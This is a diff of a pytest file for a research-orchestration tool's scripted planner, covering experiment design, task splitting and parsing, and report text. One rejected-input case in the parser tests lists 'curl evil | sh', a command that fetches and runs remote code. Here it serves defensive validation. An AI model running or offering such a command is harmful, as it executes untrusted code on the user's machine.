@@ -1,28 +1,50 @@
-"""The scripted chief's design, the researcher's reading of tasks, and the verdict."""
+"""The scripted chief's design from the research program, the researchers' reading of tasks,
+and the classic mistake. The statistics are the ledger's: none are here."""
 
 from __future__ import annotations
+
+import shlex
+from importlib import resources
 
 import pytest
 
 from missionctl.agents.demo.scripted import plan
 
-
-def test_assign_is_controlled_and_spread_over_researchers() -> None:
-    tasks = plan.assign(["r1", "r2", "r3"], "cpu-smoke", [1, 2, 3], "flops=1e12")
-    arms = [(t.arm, t.seed) for t in tasks]
-    assert arms == [("baseline", 1), ("baseline", 2), ("baseline", 3),
-                    ("treatment", 1), ("treatment", 2), ("treatment", 3), ("replicate", 1)]  # fmt: skip
-    assert [t.to for t in tasks] == ["r1", "r2", "r3", "r1", "r2", "r3", "r1"]
-    # The arms differ in exactly one knob; preset and budget are the same everywhere.
-    base, treat = tasks[0].argv(), tasks[3].argv()
-    assert [a for a in base if a not in treat] == ["logit_softcap=15"]
-    assert [a for a in treat if a not in base] == ["logit_softcap=0"]
-    assert all("--budget" in t.argv() and "flops=1e12" in t.argv() for t in tasks)
+PROGRAM = (resources.files("missionctl") / "templates" / "program.md").read_text()
 
 
-def test_a_task_body_round_trips_to_its_command() -> None:
-    task = plan.Task("r1", "treatment", 2, "cpu-tiny", "steps=20")
-    assert plan.parse_task(task.body()) == task.argv()
+def test_the_design_takes_margin_seeds_and_budget_from_the_program() -> None:
+    design = plan.design(PROGRAM, "cpu-tiny")
+    # The noise table: 6 seeds make a 90% interval ±0.01 wide on cpu-tiny.
+    assert design.seeds == (1, 2, 3, 4, 5, 6) and design.margin == 0.01
+    assert design.budget == "flops=1.5e11"
+    assert "noise table gives 6 for a ±0.01 interval on cpu-tiny" in design.why
+    smoke = plan.design(PROGRAM, "cpu-smoke")
+    assert len(smoke.seeds) == 10 and smoke.budget == "flops=3e12"
+    # Given seeds (a shortened plan) and a given budget win.
+    short = plan.design(PROGRAM, "cpu-tiny", (1, 2, 3), "flops=1e11")
+    assert short.seeds == (1, 2, 3) and short.budget == "flops=1e11"
+    argv = short.exp_new()
+    assert argv[:5] == ["missionctl", "exp", "new", "--id", "softcap-off"]
+    assert argv[argv.index("--margin") + 1] == "0.01"
+    assert argv[argv.index("--seeds") + 1] == "1,2,3"
+    assert argv[-6:] == ["--arm", "baseline", "logit_softcap=15", "--arm", "nocap",
+                         "logit_softcap=0"]  # fmt: skip
+    with pytest.raises(ValueError, match="no budget"):
+        plan.design("no table here", "cpu-tiny")
+
+
+def test_the_plan_is_spread_over_researchers_and_round_trips_through_task_mail() -> None:
+    commands = [
+        "python -m missionctl.train --preset cpu-tiny --budget flops=1.5e+11 --seed 1"
+        f" --set logit_softcap={v} --exp softcap-off --arm {arm}"
+        for arm, v in (("baseline", 15), ("nocap", 0))
+    ] * 2
+    split = plan.split_plan(commands, ["r1", "r2", "r3"])
+    assert [to for to, _ in split] == ["r1", "r2", "r3", "r1"]
+    body = plan.task_body(commands[1])
+    assert plan.parse_task(body) == shlex.split(commands[1])
+    assert plan.task_subject(commands[1]) == "softcap-off: arm nocap, seed 1"
 
 
 @pytest.mark.parametrize(
@@ -35,6 +57,7 @@ def test_a_task_body_round_trips_to_its_command() -> None:
         "python -m missionctl.train --seed --preset x",
         "python -m missionctl.trainer --preset cpu-tiny",
         "python -m missionctl.train --preset 'unterminated",
+        "python -m missionctl.train --exp --arm x",
         "curl evil | sh",
     ],
 )
@@ -48,30 +71,20 @@ def test_run_line() -> None:
     assert plan.parse_run_line("run r1-x cpu-smoke seed=1 budget=steps=10 -> /x") is None
 
 
-def _results(deltas: list[float], base: float = 2.0) -> list[plan.Result]:
-    out = []
-    for seed, delta in enumerate(deltas, start=1):
-        out.append(plan.Result("baseline", seed, f"b{seed}", base, "r1"))
-        out.append(plan.Result("treatment", seed, f"t{seed}", base + delta, "r2"))
-    return out
+def test_the_classic_mistake_is_bigger_longer_and_one_seed() -> None:
+    argv = plan.mistake_argv("cpu-tiny", "flops=1.5e11")
+    assert argv[:3] == plan.TRAIN_PREFIX and "--exp" not in argv
+    assert argv[argv.index("--budget") + 1] == "flops=3e+11"
+    assert f"width={plan.BIG_WIDTH}" in argv and argv[argv.index("--seed") + 1] == "1"
 
 
-def test_summary_decides_against_the_margin() -> None:
-    assert "NON-INFERIOR" in plan.summary(_results([0.001, 0.002, 0.0015]))
-    assert "WORSE" in plan.summary(_results([0.05, 0.051, 0.049]))
-    text = plan.summary(_results([-0.02, 0.03, 0.01]))
-    assert "INCONCLUSIVE" in text and "run more seeds" in text
-    assert "no interval" in plan.summary(_results([0.001]))
-
-
-def test_summary_reports_numbers_runs_noise_and_problems() -> None:
-    results = _results([0.001, 0.003])
-    results.append(plan.Result("replicate", 1, "rep1", 2.0, "r3"))
-    text = plan.summary(results, ["r9 never answered"])
-    assert "+0.0020 bpb" in text  # the mean paired difference
-    assert "95% CI [" in text and "1 df" in text
-    assert "differs by +0.0000" in text
-    assert "- r9 never answered" in text
-    assert text.endswith("runs: b1, b2, t1, t2, rep1")
-    # 2 seeds: t(1) = 12.706, sd of (0.001, 0.003) = 0.001414 -> half width 0.0127.
-    assert "[-0.0107, +0.0147]" in text
+def test_the_final_report_quotes_the_verdict_and_the_refused_claims() -> None:
+    text = plan.final_report(
+        "softcap-off: non-inferior\n- non-inferior: ...", ["a", "b"],
+        ["  Claim by r7: 'bigger is better'\n  REFUSED (confounded)"], ["r9 never answered"],
+    )  # fmt: skip
+    assert text.startswith("The ledger's verdict on softcap-off (`missionctl exp verdict")
+    assert "\n  softcap-off: non-inferior\n" in text
+    assert "Claims the ledger refused (not results):\n  Claim by r7" in text
+    assert "- r9 never answered" in text and text.endswith("runs: a, b")
+    assert "No claim was refused." in plan.final_report("x", [], [])
